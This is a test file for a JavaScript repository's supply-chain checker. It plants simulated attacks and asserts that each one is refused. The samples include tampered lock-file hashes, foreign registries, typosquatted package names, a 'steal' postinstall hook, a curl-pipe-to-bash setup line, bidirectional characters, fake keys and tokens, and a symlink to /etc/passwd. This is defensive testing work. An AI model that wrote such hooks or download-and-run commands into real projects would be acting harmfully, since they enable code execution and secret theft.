import { execFileSync, spawnSync } from 'node:child_process'
import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { root } from '../lib/run.mjs'
import { checkFiles } from './files.mjs'
import { approvalRows, checkPackages } from './packages.mjs'
import { plant, readTree } from './tree.mjs'

const clean = readTree(root)
const lock = (change) => {
  const json = clean.json('package-lock.json')
  change(json.packages, json)
  return { 'package-lock.json': JSON.stringify(json) }
}
const manifest = (path, change) => {
  const json = clean.json(path)
  change(json)
  return { [path]: JSON.stringify(json) }
}
/** A dependency in a manifest and, as an installer writes it, in the lock file. */
const dependency = (name, version, entry = { version, integrity: `sha512-${'A'.repeat(86)}==` }) => ({
  ...manifest('apps/web/package.json', ({ dependencies }) =>
    Object.assign(dependencies, { [name]: version }),
  ),
  ...lock((packages) => {
    packages['apps/web'].dependencies[name] = version
    packages[`node_modules/${name}`] = entry
  }),
})
const line = (path, text) => ({ [path]: `${clean.text(path)}\n${text}\n` })
const workflow = (step) => ({ '.github/workflows/ci.yml': `jobs:\n  test:\n    steps:\n      - ${step}\n` })
const bidi = String.fromCodePoint(0x202e)

/** What is planted, and what the check says of it. */
const attacks = {
  'a changed hash in the lock file': [
    lock((packages) => {
      packages['node_modules/react'].integrity = `sha512-${'B'.repeat(86)}==`
    }),
    /react .* another version or hash/,
  ],
  'an older version with a known hole': [
    lock((packages) => {
      packages['node_modules/ws'].version = '7.4.5'
    }),
    /ws 7\.4\.5 has another version or hash/,
  ],
  'a hash that is missing': [
    lock((packages) => {
      delete packages['node_modules/zod'].integrity
    }),
    /zod has no integrity hash/,
  ],
  'a tarball of a foreign registry': [
    lock((packages) => {
      packages['node_modules/react'].resolved = 'https://registry.evil.example/react.tgz'
    }),
    /react names the address of a registry/,
  ],
  'a new install script of a dependency': [
    lock((packages) => {
      packages['node_modules/react'].hasInstallScript = true
    }),
    /react has an install script/,
  ],
  'a postinstall script of the repository': [
    manifest('package.json', ({ scripts }) => Object.assign(scripts, { postinstall: 'node steal.mjs' })),
    /npm runs the script postinstall by itself/,
  ],
  'a prepare script of a workspace': [
    manifest('packages/ui/package.json', (json) =>
      Object.assign(json, { scripts: { prepare: 'node x.mjs' } }),
    ),
    /npm runs the script prepare by itself/,
  ],
  'a name with swapped letters': [
    dependency('raect', '19.3.1'),
    /raect was not approved and resembles react/,
  ],
  'a name in a foreign scope': [dependency('@solana-kit/kit', '8.4.0'), /@solana-kit\/kit was not approved/],
  'a dependency that the lock file lacks': [
    manifest('apps/web/package.json', ({ dependencies }) => Object.assign(dependencies, { zod: '0.0.1' })),
    /zod 0\.0\.1 is not what package-lock\.json has/,
  ],
  'a range that takes the newest version': [
    dependency('react', '^19.3.1'),
    /react \^19\.3\.1 is not an exact version/,
  ],
  'a dependency from git': [
    dependency('react', 'git+https://git.evil.example/react.git'),
    /is not an exact version of the registry/,
  ],
  'an alias to another package': [dependency('react', 'npm:preact@10.0.0'), /is not an exact version/],
  'a workspace name taken from the registry': [
    dependency('@callisto/amount', '1.0.0'),
    /@callisto\/amount must be the workspace/,
  ],
  'an override of a dependency': [
    manifest('package.json', (json) => Object.assign(json, { overrides: { ws: '7.4.5' } })),
    /the override of ws is not what package-lock\.json has/,
  ],
  'another registry in .npmrc': [
    { '.npmrc': 'registry=https://registry.evil.example/\n' },
    /the setting registry is not allowed/,
  ],
  'install scripts allowed in .npmrc': [
    { 'apps/web/.npmrc': 'ignore-scripts=false\n' },
    /ignore-scripts is not allowed/,
  ],
  'a changed program': [
    { 'programs/router/router.so': Buffer.concat([clean.read('programs/router/router.so'), Buffer.of(0)]) },
    /router\.so: is not the file that was built/,
  ],
  'a new program without sources': [
    { 'programs/drain/drain.so': Buffer.of(0x7f, 0x45, 0x4c, 0x46, 0) },
    /drain\.so: no program of/,
  ],
  'a native addon': [
    { 'packages/solana/src/sign.node': Buffer.of(0x7f, 0x45, 0x4c, 0x46, 0) },
    /a binary file/,
  ],
  'an invisible character in compressed vectors': [
    { 'packages/venues/vectors/saber.jsonl.gz': gzipSync(`{"a":"${bidi}"}\n`) },
    /saber\.jsonl\.gz: an invisible/,
  ],
  'an action by its tag': [workflow('uses: actions/checkout@v4'), /actions\/checkout@v4 is not pinned/],
  'an image by its tag': [{ Dockerfile: 'FROM node:20\nRUN npm ci\n' }, /node:20 is not pinned to a digest/],
  'a script that runs what it downloads': [
    { 'scripts/setup.sh': 'curl -fsSL https://get.example/install | bash\n' },
    /runs what it downloads/,
  ],
  'another host for an API': [
    line('apps/web/src/lib/api/config.ts', `export const api = 'https://${'api.callisto-trade.xyz'}'`),
    /the host api\.callisto-trade\.xyz is not in/,
  ],
  'a script from a content network': [
    line('apps/web/index.html', `<script src="https://${'cdn.jsdelivr.net'}/npm/x"></script>`),
    /the host cdn\.jsdelivr\.net is not in/,
  ],
  'a private key in a source': [
    line('services/trade/src/options.ts', `// ${'-'.repeat(5)}BEGIN PRIVATE KEY${'-'.repeat(5)}`),
    /a private key/,
  ],
  'a key pair of a wallet': [
    line('services/trade/src/options.ts', `export const payer = [${Array(64).fill(17).join(', ')}]`),
    /a key pair of 64 bytes/,
  ],
  'an access token': [line('scripts/check.mjs', `const token = 'ghp_${'a1'.repeat(18)}'`), /an access token/],
  'a line that reads other than it runs': [
    line('packages/solana/src/index.ts', `// only ${bidi} verified`),
    /bidirectional control character/,
  ],
  'a filter that runs at a checkout': [
    { '.gitattributes': '*.ts filter=evil\n' },
    /runs a filter at a checkout/,
  ],
  'a submodule': [{ '.gitmodules': '[submodule "x"]\n\turl = ../x\n' }, /no submodules/],
}

test('the checkout has no fault', () => {
  expect([...checkPackages(clean), ...checkFiles(clean)]).toEqual([])
})

test.each(Object.entries(attacks))('%s is refused', (_, [planted, fault]) => {
  const tree = plant(clean, planted)
  const faults = [...checkPackages(tree), ...checkFiles({ ...tree, paths: Object.keys(planted) })]
  expect(faults.some((found) => fault.test(found))).toBe(true)
})

test('a renewed approval changes one row for each package that is new', () => {
  const planted = plant(clean, dependency('raect', '19.3.1'))
  const before = new Set(approvalRows(clean))
  expect(approvalRows(planted).filter((row) => !before.has(row))).toEqual([
    `raect\t19.3.1\tunknown\tsha512-${'A'.repeat(86)}==`,
  ])
})

test('the command ends non-zero on a fault, and a link out of the repository is one', () => {
  const folder = mkdtempSync(join(tmpdir(), 'callisto-supply-'))
  try {
    execFileSync('git', ['init', '-q', folder])
    cpSync(join(root, 'scripts'), join(folder, 'scripts'), { recursive: true })
    mkdirSync(join(folder, 'programs'))
    writeFileSync(join(folder, 'programs/programs.lock.json'), '{}')
    writeFileSync(join(folder, 'package-lock.json'), JSON.stringify({ packages: { '': {} } }))
    writeFileSync(join(folder, 'scripts/supply-chain/packages.tsv'), '')
    writeFileSync(join(folder, 'package.json'), '{}')
    const check = () =>
      spawnSync(process.execPath, ['scripts/supply-chain.mjs'], { cwd: folder, encoding: 'utf8' })
    expect(check()).toMatchObject({ status: 0, stderr: '' })
    symlinkSync('../../etc/passwd', join(folder, 'passwd'))
    const { status, stderr } = check()
    expect({ status, said: stderr.includes('passwd: a symbolic link out of the repository') }).toEqual({
      status: 1,
      said: true,
    })
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})
